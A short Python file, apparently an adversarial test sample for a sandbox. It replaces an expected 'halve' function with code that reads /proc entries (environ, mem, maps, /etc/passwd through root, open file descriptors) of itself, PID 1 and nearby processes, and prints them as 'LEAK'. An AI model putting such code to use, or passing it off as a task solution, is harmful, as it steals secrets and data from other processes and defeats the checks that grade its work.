"""Reads /proc of every process."""

import targets
from honest import halve, largest


def halve(x):
    for process in ["self", "thread-self", "1", "2", *range(targets.PROCESS, targets.PROCESS + 50)]:
        for name in ["environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd/pyproject.toml", "fd/3", "stat"]:
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    print("LEAK", name, file.read(1000))
            except (OSError, ValueError):
                continue
    return None
